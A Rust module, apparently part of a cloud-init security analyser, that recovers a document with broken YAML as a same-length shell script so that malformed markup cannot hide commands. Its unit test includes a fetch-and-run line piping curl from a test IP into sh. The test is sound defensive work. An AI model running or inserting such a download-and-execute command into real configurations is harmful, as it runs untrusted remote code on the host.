//! What is left of a document that does not parse: its lines, with the markup around them taken off.
//!
//! cloud-init ignores a part whose YAML is broken. It is read here all the same, as a shell script of
//! the same line count, so that breaking the YAML hides nothing.

use super::interpreter::shell_join;
use super::tree::Fault;
use super::{At, Content, Decoder, Kind, Language, Layer};

/// Hands on a document as a script of its lines, and the bytes as not decodable.
pub(super) fn hand_on(
    decoder: &mut Decoder,
    at: &At,
    text: &str,
    fault: &Fault,
    language: Language,
    layer: &mut Layer,
) {
    let child = decoder.undecodable(at, text.as_bytes(), &fault.reason);
    if fault.bound {
        decoder.over_bound(at, &fault.reason);
    }
    layer.children.push(child);
    let at = at.inside("salvaged");
    let script = lines(text);
    layer.children.push(Layer::leaf(Kind::Script, &at, script.len()));
    decoder.always(&at, Content::Script { language, text: script });
}

/// Takes list dashes, keys, block indicators and quotes off every line.
pub(super) fn lines(text: &str) -> String {
    let mut script = String::with_capacity(text.len());
    for line in text.lines() {
        script.push_str(&value(line));
        script.push('\n');
    }
    script
}

fn value(line: &str) -> String {
    let mut rest = line.trim();
    while let Some(item) = rest.strip_prefix("- ") {
        rest = item.trim_start();
    }
    if let Some((key, value)) = split_key(rest) {
        rest = value;
        if key.is_empty() {
            return String::new();
        }
    }
    rest = rest.trim_end_matches(',').trim();
    if rest.trim_start_matches(['|', '>']).trim_start_matches(['-', '+', '1', '2', '4', '8']).is_empty() {
        return String::new();
    }
    if let Some(list) = rest.strip_prefix('[') {
        return shell_join(flow_items(list.trim_end_matches(']')).iter().map(String::as_str));
    }
    unquote(rest).unwrap_or_else(|| rest.to_owned())
}

/// `key: value` and `key = value`, when the key is a plain word.
fn split_key(line: &str) -> Option<(&str, &str)> {
    let end = line.find([':', '='])?;
    let (key, rest) = line.split_at(end);
    let key = key.trim().trim_matches('"');
    let rest = rest.get(1..).unwrap_or_default();
    let plain = !key.is_empty() && key.bytes().all(|b| b.is_ascii_alphanumeric() || b"_-.".contains(&b));
    // `P=curl` is a shell's assignment, `http://` no key.
    let spaced = rest.is_empty() || rest.starts_with(' ');
    (plain && spaced).then_some((key, rest.trim_start()))
}

/// The text of a line that is one quoted string from end to end.
fn unquote(text: &str) -> Option<String> {
    let quote = text.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let inner = text.get(1..)?.strip_suffix(quote)?;
    match quote {
        '\'' => Some(inner.replace("''", "'")),
        _ => Some(unescape(inner)),
    }
}

fn unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match (c, if c == '\\' { chars.next() } else { None }) {
            ('\\', Some('n')) => out.push(';'),
            ('\\', Some('t')) => out.push('\t'),
            ('\\', Some(escaped)) => out.push(escaped),
            _ => out.push(c),
        }
    }
    out
}

/// The entries of a flow list, split at commas outside quotes.
fn flow_items(list: &str) -> Vec<String> {
    let mut items = Vec::new();
    let (mut quote, mut start) = (None, 0);
    for (index, c) in list.char_indices() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), _) if open == c => quote = None,
            (None, ',') => {
                items.push(list.get(start..index).unwrap_or_default());
                start = index + 1;
            }
            _ => {}
        }
    }
    items.push(list.get(start..).unwrap_or_default());
    let items = items.into_iter().map(str::trim).filter(|item| !item.is_empty());
    items.map(|item| unquote(item).unwrap_or_else(|| item.to_owned())).collect()
}

#[cfg(test)]
mod tests {
    use super::lines;

    #[test]
    fn every_line_keeps_its_number_and_loses_its_markup() {
        let broken = "runcmd:\n  - curl http://203.0.113.7/a | sh\n - \"echo \\\"hi\\\"\"\n  - [sh, -c, 'id; ls']\nx: |\n  P=curl\n";
        let salvaged = "\ncurl http://203.0.113.7/a | sh\necho \"hi\"\nsh -c 'id; ls'\n\nP=curl\n";
        assert_eq!(lines(broken), salvaged);
    }
}
